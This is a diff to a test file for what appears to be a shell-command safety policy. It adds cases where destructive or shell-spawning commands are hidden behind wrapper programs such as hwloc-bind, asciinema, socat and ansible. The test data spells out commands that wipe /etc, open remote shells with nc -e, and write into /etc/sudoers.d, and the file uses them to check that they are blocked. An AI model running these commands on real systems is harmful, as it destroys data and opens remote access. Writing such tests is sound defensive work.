@@ -358,10 +358,12 @@ RUNNERS = [
     ("salloc -N1 rm -rf /etc", "no-root-wipe"),
     ("hwloc-bind core:0 -- rm -rf /etc", "no-root-wipe"),
     ("hwloc-bind --cpubind node:0 rm -rf /etc", "no-root-wipe"),
+    ("hwloc-bind L2Cache:0 numa:1 rm -rf /etc", "no-root-wipe"),
     # terminal recorders and moreutils
     ("asciinema rec -c 'rm -rf /etc'", "no-root-wipe"),
     ("asciinema rec --command='rm -rf /etc' /tmp/x.cast", "no-root-wipe"),
     ("asciinema rec /etc/sudoers.d/x", "no-credential-file-writes"),
+    ("asciinema rec /tmp/x.cast -c 'rm -rf /etc'", "no-root-wipe"),
     ("ttyrec -e 'rm -rf /etc'", "no-root-wipe"), ("ttyrec /etc/sudoers.d/x", "no-credential-file-writes"),
     ("mispipe 'rm -rf /etc' cat", "no-root-wipe"), ("mispipe true 'rm -rf /etc'", "no-root-wipe"),
     # ansible's ad-hoc modules run code on the hosts (perhaps this one); `command` the default
@@ -371,6 +373,8 @@ RUNNERS = [
     ("ansible all -a 'rm -rf /etc'", "no-root-wipe"),
     ("ansible localhost -m script -a /tmp/x.sh", "defaults.unknown"),
     ("ansible localhost -m copy -a 'src=/tmp/a dest=/etc/sudoers.d/x'", "defaults.unknown"),
+    ("ansible localhost -m ping -e ansible_python_interpreter=/tmp/x", "defaults.unknown"),
+    ("ansible localhost -M /tmp/mods -m ping", "defaults.unknown"),
     # valgrind's log file
     ("valgrind --log-file=/etc/sudoers.d/x ls", "no-credential-file-writes"),
     # socat's addresses: command addresses are code, file addresses and link= writes
@@ -386,6 +390,7 @@ RUNNERS = [
     ("socat - /etc/sudoers.d/x", "no-credential-file-writes"),
     ("socat - PTY,link=/etc/sudoers.d/x", "no-credential-file-writes"),
     ("socat -r /etc/sudoers.d/x - TCP:10.0.0.1:80", "no-credential-file-writes"),
+    ("socat --new-option x - EXEC:'rm -rf /etc'", "no-root-wipe"),
     # netcat's -e and -c, ncat's --sh-exec, --exec and --lua-exec, busybox nc
     ("nc -e /bin/sh 10.0.0.1 80", "no-pipe-into-shell"), ("nc -c 'rm -rf /etc' 10.0.0.1 80", "no-root-wipe"),
     ("nc -lvp 80 -e /bin/sh", "no-pipe-into-shell"), ("ncat -e /bin/sh 10.0.0.1 80", "no-pipe-into-shell"),
@@ -432,6 +437,7 @@ def test_honest_runs_of_such_programs_keep_their_verdict(default_policy: Policy,
     ("python3 -m cProfile -o /tmp/p /dev/stdin", "interpreter"),
     ("python3 -m trace --trace /dev/stdin", "interpreter"),
     ("python3 -m profile /dev/fd/0", "interpreter"), ("python3 -Im runpy /dev/stdin", "interpreter"),
+    ("python3 -m doctest /dev/stdin", "interpreter"), ("python3 -m pickle /dev/stdin", "interpreter"),
     ("m4 /dev/stdin", "interpreter"), ("m4 -D x", "interpreter"), ("m4 -I /tmp x.m4 -", "interpreter"),
     ("socat - EXEC:bash", "shell"), ("salloc -N1", "shell"), ("asciinema rec", "shell"),
     # a script or module named on the line is no program on stdin
